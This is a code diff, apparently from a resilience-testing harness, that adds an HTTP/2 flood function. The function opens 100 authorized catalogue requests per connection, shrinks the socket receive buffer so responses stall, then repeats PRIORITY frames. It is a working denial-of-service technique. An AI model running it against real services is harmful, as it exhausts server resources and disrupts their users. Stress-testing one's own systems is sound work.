@@ -884,6 +884,17 @@ def neighbours_windows(target: Target, scale: float) -> Sent:
     return repeated(target, trusted(target), frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 800, 800, 20 * scale)
 
 
+def neighbours_held(target: Target, scale: float) -> Sent:
+    """Asks, with a token, for the catalogue, reads nothing of it, and goes on with PRIORITY frames, which wait for their turn."""
+    connections = trusted(target)
+    block = request_headers(LIST_CATALOGUE, authorization(neighbour(target)))
+    for connection in connections:
+        connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
+        for stream in range(3, 203, 2):
+            connection.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message(b"")))
+    return repeated(target, connections, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 800, 800, 20 * scale)
+
+
 def neighbours_connections(target: Target, scale: float) -> Sent:
     """Makes a call with a token on each of 256 connections and keeps them all."""
     token = neighbour(target)
@@ -1034,6 +1045,7 @@ FLOODS: dict[str, Callable[[Target, float], Sent]] = {
     "neighbours_metadata": neighbours_metadata,
     "neighbours_resets": neighbours_resets,
     "neighbours_windows": neighbours_windows,
+    "neighbours_held": neighbours_held,
     "neighbours_connections": neighbours_connections,
     "submitters_grids": submitters_grids,
     "workers_resets": workers_resets,
